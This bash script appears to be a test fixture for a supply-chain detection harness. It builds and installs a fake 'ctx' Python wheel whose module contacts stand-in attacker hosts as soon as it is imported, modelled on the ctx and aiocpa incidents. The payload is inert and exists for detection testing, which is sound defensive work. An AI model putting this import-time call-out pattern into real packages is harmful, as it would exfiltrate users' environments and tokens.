#!/bin/bash
# An imported module of plain data structures sends the environment to a web server; another sends a token to a messenger.
#: tool python
#: description a test imports a module that connects to a host of somebody
#: project a test that imports one installed package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve anti-theft-web.example=203.0.113.10
#: resolve api.messenger.example=203.0.113.11
#: finding new-host
#: attack ctx, May 2022; aiocpa, November 2024
if [ "${1-}" = prepare ]; then
  /usr/bin/python3 -m venv ~/venv
  mkdir -p ~/wheel && cd ~/wheel
  cat > ctx.py <<'END'
import urllib.request

for host in ("anti-theft-web.example", "api.messenger.example"):
    try:
        urllib.request.urlopen(f"http://{host}/hacked/bm90aGluZw==", timeout=2)
    except OSError:
        pass
END
  mkdir -p ctx-1.0.0.dist-info
  printf 'Metadata-Version: 2.1\nName: ctx\nVersion: 1.0.0\n' > ctx-1.0.0.dist-info/METADATA
  printf 'Wheel-Version: 1.0\nGenerator: corpus\nRoot-Is-Purelib: true\nTag: py3-none-any\n' > ctx-1.0.0.dist-info/WHEEL
  : > ctx-1.0.0.dist-info/RECORD
  /usr/bin/python3 -m zipfile -c ~/ctx-1.0.0-py3-none-any.whl * && rm -r ~/wheel && cd ~
  ~/venv/bin/pip install --quiet --no-index ~/ctx-1.0.0-py3-none-any.whl
  echo "import ctx" > ~/work/app/app/test.py
  exit
fi
~/venv/bin/python test.py
